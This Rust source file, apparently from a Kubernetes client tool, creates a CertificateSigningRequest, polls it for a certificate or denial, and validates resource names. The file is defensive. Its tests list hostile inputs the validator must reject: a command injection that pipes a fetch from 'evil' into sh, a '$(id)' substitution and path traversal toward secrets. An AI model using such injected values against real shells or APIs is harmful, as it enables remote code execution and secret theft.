//! The cluster's part: creates a `CertificateSigningRequest` and waits for the decision.

use std::time::Duration;

use base64::{Engine, engine::general_purpose::STANDARD};
use http::{Request, header};
use keyward::Body;
use keyward_process::clock::{Clock, SystemClock};
use serde_json::{Value, json};

use super::Args;
use crate::{
    duration,
    failure::Failure,
    output::{inline, quoted, tell},
    server::{self, Server},
};

const PATH: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

/// How long to wait between two polls, at first and at most. A user who may create a request may
/// often read that one, but not watch them all.
const PAUSE: (Duration, Duration) = (Duration::from_millis(500), Duration::from_secs(5));

/// Sends a certificate request, in PEM, for this user. Returns the name that the cluster gave it.
pub(super) fn send(
    server: &Server,
    user: &str,
    request: &str,
    args: &Args,
) -> Result<String, Failure> {
    let mut object = json!({
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": { "generateName": prefix(user) },
        "spec": {
            "request": STANDARD.encode(request),
            "signerName": args.signer_name,
            "usages": ["digital signature", "client auth"],
        },
    });
    if let Some(expiration) = args.expiration {
        object["spec"]["expirationSeconds"] = expiration.as_secs().into();
    }
    let request = Request::post(PATH)
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(object.to_string()));
    let made = ask(server, request)?;
    match made["metadata"]["name"].as_str().filter(|name| !name.is_empty()) {
        None => Err(Failure::failed("the server gave the certificate request no name")),
        Some(name) if !is_name(name) => {
            let what = "the server gave the certificate request an invalid name";
            Err(Failure::failed(what).note("name", format!("`{}`", inline(name))))
        }
        Some(name) => Ok(name.to_owned()),
    }
}

/// Whether this is a valid name of a Kubernetes object: a DNS subdomain (RFC 1123). Nothing else
/// may go into a path, or into a command that a person may paste.
pub(super) fn is_name(name: &str) -> bool {
    let of_label = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
    let label = |label: &str| {
        let (first, last) = (label.bytes().next(), label.bytes().next_back());
        first.is_some_and(of_label)
            && last.is_some_and(of_label)
            && label.bytes().all(|byte| of_label(byte) || byte == b'-')
    };
    name.len() <= 253 && name.split('.').all(label)
}

/// Waits until the request has its certificate, in PEM, or has been denied. Once the server has
/// answered, outages are waited out.
pub(super) fn wait(
    server: &Server,
    name: &str,
    limit: Duration,
    mut heard: bool,
) -> Result<String, Failure> {
    let mut pause = PAUSE.0;
    let mut told = false;
    let start = SystemClock.elapsed();
    loop {
        let over = SystemClock.elapsed().saturating_sub(start) >= limit;
        let request = Request::get(format!("{PATH}/{name}")).body(Body::empty());
        match ask(server, request) {
            Ok(mut object) => {
                (heard, told) = (true, false);
                let status = object["status"].take();
                if let Some(packed) = status["certificate"].as_str().filter(|text| !text.is_empty())
                {
                    let malformed = || Failure::failed("the server's certificate is malformed");
                    return unpack(packed).ok_or_else(malformed);
                }
                if let Some(refusal) = refusal(name, &status) {
                    return Err(refusal);
                }
                if over {
                    let (shown, limit) = (inline(name), duration::show(limit));
                    let what =
                        format!("nobody approved certificate request `{shown}` within {limit}");
                    return Err(later(Failure::failed(what), name));
                }
            }
            Err(failure) if !heard || over || !failure.may_pass() => {
                return Err(later(failure, name));
            }
            Err(failure) => {
                if !told {
                    told = true;
                    tell(&format!("{}; still waiting\n", inline(failure.message())));
                }
            }
        }
        server.rest(pause);
        pause = (pause * 2).min(PAUSE.1);
    }
}

/// A text in Base64.
fn unpack(packed: &str) -> Option<String> {
    String::from_utf8(STANDARD.decode(packed).ok()?).ok()
}

/// Adds how to continue after a failure: the request still exists.
pub(super) fn later(failure: Failure, name: &str) -> Failure {
    let go_on = format!("continue later with `--request {}`", quoted(&inline(name)));
    let hint = match failure.advice() {
        Some(first) => format!("{first}\n{go_on}"),
        None => go_on,
    };
    failure.hint(hint)
}

/// The denial or failure of the request, if any.
fn refusal(name: &str, status: &Value) -> Option<Failure> {
    let conditions = status["conditions"].as_array()?;
    let against = conditions.iter().find(|c| c["type"] == "Denied" || c["type"] == "Failed")?;
    let what = if against["type"] == "Denied" { "was denied" } else { "could not be signed" };
    let mut failure = Failure::failed(format!("certificate request `{}` {what}", inline(name)));
    for (label, field) in [("reason", "reason"), ("it says", "message")] {
        if let Some(text) = against[field].as_str().filter(|text| !text.is_empty()) {
            failure = failure.note(label, inline(text));
        }
    }
    Some(failure)
}

fn ask(server: &Server, request: http::Result<Request<Body>>) -> Result<Value, Failure> {
    let mut request =
        request.map_err(|_| Failure::usage("the name of the request is not valid in a path"))?;
    let json = header::HeaderValue::from_static("application/json");
    request.headers_mut().insert(header::ACCEPT, json);
    let (status, body) = server.ask_bytes(request)?;
    if !status.is_success() {
        return Err(server::refusal(status, &body));
    }
    serde_json::from_slice(&body).map_err(Failure::of("the server's answer is not JSON"))
}

/// A name for the request that shows its user, with valid characters only.
fn prefix(user: &str) -> String {
    let mut plain = String::new();
    for character in user.chars().take(40) {
        match character.to_ascii_lowercase() {
            letter if letter.is_ascii_alphanumeric() => plain.push(letter),
            _ if plain.ends_with('-') => {}
            _ => plain.push('-'),
        }
    }
    match plain.trim_matches('-') {
        "" => "keyward-".to_owned(),
        plain => format!("keyward-{plain}-"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_requests_name_is_made_of_what_names_may_have() {
        for (user, name) in [
            ("jane", "keyward-jane-"),
            ("Jane.Doe@example.org", "keyward-jane-doe-example-org-"),
            ("système:ñ", "keyward-syst-me-"),
            ("::", "keyward-"),
        ] {
            assert_eq!(prefix(user), name);
        }
    }

    #[test]
    fn a_name_that_no_object_can_have_is_no_name() {
        for name in ["keyward-jane-x7k2p", "a", "a.b-c.d1", "0"] {
            assert!(is_name(name), "{name}");
        }
        let long = "a".repeat(254);
        for name in [
            "x; curl evil|sh #",
            "../../../api/v1/secrets",
            "",
            "a..b",
            "-a",
            "a-",
            "A",
            "a_b",
            "a/b",
            "a%2fb",
            "$(id)",
            "a\nb",
            &long,
        ] {
            assert!(!is_name(name), "{name}");
        }
    }

    #[test]
    fn a_denial_says_why() {
        let status = json!({ "conditions": [
            { "type": "Denied", "reason": "Unknown", "message": "who is that?" },
        ] });
        let Some(failure) = refusal("r", &status) else { panic!("it is a refusal") };
        assert_eq!(failure.message(), "certificate request `r` was denied");
        assert!(failure.notes().any(|note| note == ("it says", "who is that?")));
        let approved = json!({ "conditions": [{ "type": "Approved" }] });
        assert!(refusal("r", &approved).is_none());
    }
}
